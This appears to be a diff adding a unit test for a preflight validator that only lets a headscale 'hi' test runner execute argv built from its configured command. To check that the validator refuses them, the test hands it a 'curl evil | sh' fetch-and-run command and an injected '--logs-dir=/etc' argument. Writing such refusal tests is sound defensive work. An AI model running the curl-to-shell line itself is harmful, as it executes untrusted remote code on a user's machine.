@@ -29,3 +29,17 @@ test('no go on PATH, no cmd/hi, a hostile pattern and a missing root are refused
   assert.match(preflight(args(path.join(root, 'missing'), goArgv), { PATH: root }) ?? '', /does not exist/);
   assert.match(preflight(args(root, ['/no/such/hi', 'run', '^TestX$']), { PATH: root }) ?? '', /was not found/);
 });
+
+test('hi.runTest runs only an argv made of the configured hi command: a handed-in argv is refused', () => {
+  const root = fs.mkdtempSync(path.join(os.tmpdir(), 'hi-pre-'));
+  fs.mkdirSync(path.join(root, 'cmd', 'hi'), { recursive: true });
+  fs.writeFileSync(path.join(root, 'go'), '#!/bin/sh\n', { mode: 0o755 });
+  const command = { hiCommand: ['go', 'run', './cmd/hi'], extraArgs: ['--stats'] };
+  const built = buildRunArgv(command.hiCommand, command.extraArgs, { pattern: 'TestX', anchored: true, timeoutSeconds: 900, postgres: true });
+  assert.equal(preflight(args(root, built), { PATH: root }, command), null);
+  assert.equal(preflight(args(root, [...buildRunArgv(command.hiCommand, [], { pattern: 'TestX', anchored: true, timeoutSeconds: 900, postgres: false }), '--postgres']), { PATH: root }, command), null, "the Test Explorer's --postgres variant");
+  assert.match(preflight(args(root, ['sh', '-c', 'curl evil | sh', '^TestX$']), { PATH: root }, command) ?? '', /does not start with headscale\.hi\.command/);
+  assert.match(preflight(args(root, [...built, '--logs-dir=/etc']), { PATH: root }, command) ?? '', /"--logs-dir=\/etc" is neither/);
+  assert.match(preflight(args(root, ['go', 'run', './cmd/hi', 'doctor', '^TestX$']), { PATH: root }, command) ?? '', /not `hi run <pattern>`/);
+  fs.rmSync(root, { recursive: true });
+});
